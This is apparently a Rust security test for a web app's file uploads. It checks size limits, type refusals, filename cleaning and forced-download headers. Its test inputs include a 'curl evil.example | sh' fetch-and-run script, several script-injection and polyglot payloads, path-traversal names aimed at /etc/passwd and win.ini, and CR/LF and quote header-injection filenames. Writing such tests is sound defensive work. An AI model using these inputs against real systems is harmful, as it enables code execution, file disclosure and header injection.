//! Scorecard 11: uploads. Oversize bodies (declared and chunked) written over a raw socket, so
//! the test sees how much the server took before it answered; programs and markup under
//! harmless names; `../` and header-breaking names; polyglots. Every stored file comes back as
//! a download with `nosniff`.

use std::sync::{
    Arc,
    atomic::{AtomicUsize, Ordering},
};

use reqwest::{Response, StatusCode};
use serde_json::json;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt},
    net::TcpStream,
};

use super::{Row, report};
use crate::{
    explanations::{deadline, desk, public_upload, violator_token},
    helpers::{TestApp, upload},
};

/// What the oversize uploads send: 64 times the test server's 1 MiB limit.
const HUGE: usize = 64 * 1024 * 1024;
const BOUNDARY: &str = "scorecard-boundary";

/// Sends a `HUGE` multipart upload to `path` (with `Content-Length`, or chunked) and answers the
/// status and how many bytes had been written when it came.
async fn oversize(app: &TestApp, path: &str, token: Option<&str>, chunked: bool) -> (u16, usize) {
    let address = app.address.trim_start_matches("http://");
    let stream = TcpStream::connect(address).await.expect("connect");
    let (mut reader, mut writer) = stream.into_split();
    let head = format!(
        "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"big.pdf\"\r\n\
         Content-Type: application/pdf\r\n\r\n"
    );
    let auth = token.map(|t| format!("Authorization: Bearer {t}\r\n")).unwrap_or_default();
    let length = if chunked {
        "Transfer-Encoding: chunked\r\n".to_owned()
    } else {
        format!("Content-Length: {}\r\n", head.len() + HUGE)
    };
    let request = format!(
        "POST {path} HTTP/1.1\r\nHost: {address}\r\n{auth}Content-Type: multipart/form-data; boundary={BOUNDARY}\r\n\
         {length}Connection: close\r\n\r\n"
    );
    let written = Arc::new(AtomicUsize::new(0));
    let counter = written.clone();
    let sender = tokio::spawn(async move {
        writer.write_all(request.as_bytes()).await?;
        let chunk = vec![b'A'; 64 * 1024];
        let mut pieces = vec![head.into_bytes()];
        pieces.extend(std::iter::repeat_n(chunk, HUGE / (64 * 1024)));
        for piece in pieces {
            if chunked {
                writer.write_all(format!("{:x}\r\n", piece.len()).as_bytes()).await?;
                writer.write_all(&piece).await?;
                writer.write_all(b"\r\n").await?;
            } else {
                writer.write_all(&piece).await?;
            }
            counter.fetch_add(piece.len(), Ordering::SeqCst);
        }
        std::io::Result::Ok(())
    });
    let mut answer = [0u8; 12];
    let status = match reader.read_exact(&mut answer).await {
        Ok(_) => std::str::from_utf8(&answer[9..12]).ok().and_then(|s| s.parse().ok()).unwrap_or(0),
        Err(_) => 0,
    };
    let sent = written.load(Ordering::SeqCst);
    sender.abort();
    (status, sent)
}

/// Whether a download is served as one: attachment, octet-stream, nosniff, and a name with no
/// path in it and nothing after it in the header.
fn served_as_download(res: &Response) -> Result<String, String> {
    let header = |name: &str| res.headers().get(name).and_then(|v| v.to_str().ok()).unwrap_or("").to_owned();
    let disposition = header("content-disposition");
    let ok = disposition.starts_with("attachment;")
        && header("content-type") == "application/octet-stream"
        && header("x-content-type-options") == "nosniff"
        && !disposition.contains('/')
        && !disposition.contains('\\')
        && res.headers().get("x-injected").is_none();
    if ok { Ok(disposition) } else { Err(format!("{disposition:?} {:?}", res.headers())) }
}

#[tokio::test]
async fn scorecard_11_uploads_are_bounded_typed_and_always_downloads() {
    let d = desk().await;
    let app = &d.app;
    let mut problems = Vec::new();

    // Oversize, to the analysts' upload and to a violator's link, declared and chunked.
    let request = json!({"violator_id": "V1", "category_id": d.category, "deadline": deadline(3)});
    assert_eq!(app.post("/api/explanations", &d.analyst, request).await.status(), StatusCode::CREATED);
    let token = violator_token(app).await;
    let public_path = format!("/api/public/explanations/{token}/attachments");
    let mut oversize_results = Vec::new();
    for (path, bearer) in [("/api/attachments", Some(app.admin_token.as_str())), (public_path.as_str(), None)]
    {
        for chunked in [false, true] {
            let (status, sent) = oversize(app, path, bearer, chunked).await;
            let mib = sent as f64 / (1024.0 * 1024.0);
            oversize_results.push(format!(
                "{}{}: {status} with {mib:.1} of 64 MiB written",
                if bearer.is_some() { "analyst" } else { "link" },
                if chunked { " chunked" } else { "" }
            ));
            if status != 413 || sent >= HUGE / 2 {
                problems.push(format!("oversize to {path} (chunked {chunked}): {status} after {sent} bytes"));
            }
        }
    }

    // What a violator's link refuses (415) and takes.
    let refused_by_link: [(&str, &[u8]); 7] = [
        ("photo.png", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
        ("report.pdf", b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"),
        ("tool.exe", b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00"),
        ("notes.txt", b"<!DOCTYPE html><script>alert(1)</script>"),
        ("logo.svg", b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
        ("run.sh", b"#!/bin/sh\ncurl evil.example | sh\n"),
        ("archive.zip", b"PK\x03\x04\x14\x00\x00\x00\x08\x00"),
    ];
    for (name, bytes) in refused_by_link {
        let res = public_upload(app, &token, name, bytes.to_vec()).await;
        if res.status() != StatusCode::UNSUPPORTED_MEDIA_TYPE {
            problems.push(format!("link took {name}: {}", res.status()));
        }
    }

    // Names that try to leave the directory or break the header, and polyglots: stored under a
    // clean name, downloaded as files.
    let gif_polyglot = b"GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;alert(1)//".to_vec();
    let pdf_html = b"%PDF-1.4\n<html><script>alert(1)</script></html>".to_vec();
    let kept: Vec<(&str, Vec<u8>)> = vec![
        ("../../etc/passwd.txt", b"root:x:0:0".to_vec()),
        ("..\\..\\windows\\win.ini.txt", b"[fonts]".to_vec()),
        ("a\r\nX-Injected: 1\r\n.txt", b"header".to_vec()),
        ("\"; filename=evil.html.txt", b"quote".to_vec()),
        ("polyglot.gif", gif_polyglot),
        ("polyglot.pdf", pdf_html),
    ];
    let mut downloads = 0;
    for (name, bytes) in &kept {
        for by_link in [true, false] {
            let res = if by_link {
                public_upload(app, &token, name, bytes.clone()).await
            } else {
                upload(app, &app.admin_token, name, bytes.clone()).await
            };
            // A line break cannot even reach the parser's header: a 400 is as good as a clean name.
            if name.contains('\n') && res.status() == StatusCode::BAD_REQUEST {
                continue;
            }
            if res.status() != StatusCode::CREATED {
                problems.push(format!("{name:?} (link {by_link}) refused: {}", res.status()));
                continue;
            }
            let stored: serde_json::Value = res.json().await.expect("json");
            let stored_name = stored["file_name"].as_str().unwrap_or_default().to_owned();
            if stored_name.contains(['/', '\\', '\r', '\n', '"']) || stored_name.starts_with('.') {
                problems.push(format!("{name:?} stored as {stored_name:?}"));
            }
            let id = stored["id"].as_i64().expect("id");
            let res = if by_link {
                app.client
                    .get(format!("{}/api/public/explanations/{token}/attachments/{id}", app.address))
                    .send()
                    .await
                    .expect("sent")
            } else {
                app.get(&format!("/api/attachments/{id}"), &app.admin_token).await
            };
            downloads += 1;
            if let Err(e) = served_as_download(&res) {
                problems.push(format!("{name:?} downloaded as {e}"));
            } else if res.bytes().await.expect("bytes").as_ref() != bytes.as_slice() {
                problems.push(format!("{name:?} came back changed"));
            }
        }
    }
    // Markup an analyst attaches as evidence is kept, and still only ever a download.
    let res = upload(app, &app.admin_token, "phish.html", b"<script>alert(1)</script>".to_vec()).await;
    let id = res.json::<serde_json::Value>().await.expect("json")["id"].as_i64().expect("id");
    downloads += 1;
    if let Err(e) = served_as_download(&app.get(&format!("/api/attachments/{id}"), &app.admin_token).await) {
        problems.push(format!("evidence HTML downloaded as {e}"));
    }

    let pass = problems.is_empty();
    report(Row {
        number: 11,
        test: "uploads",
        tried: format!(
            "4 uploads of 64 MiB (declared and chunked, analyst and violator link); {} programs, markup and \
             mismatched types through a link; {} `../`, CR/LF, quote and polyglot names both ways; {downloads} downloads",
            refused_by_link.len(),
            kept.len()
        ),
        threshold: "413 before reading it all, 415 where refused, always served as attachment with nosniff",
        result: if pass {
            format!(
                "413 {}; {} of {} refused with 415; {downloads} of {downloads} downloads attachment + octet-stream + nosniff, names cleaned",
                oversize_results.join(", "),
                refused_by_link.len(),
                refused_by_link.len()
            )
        } else {
            problems.join("; ")
        },
        pass,
    });
}
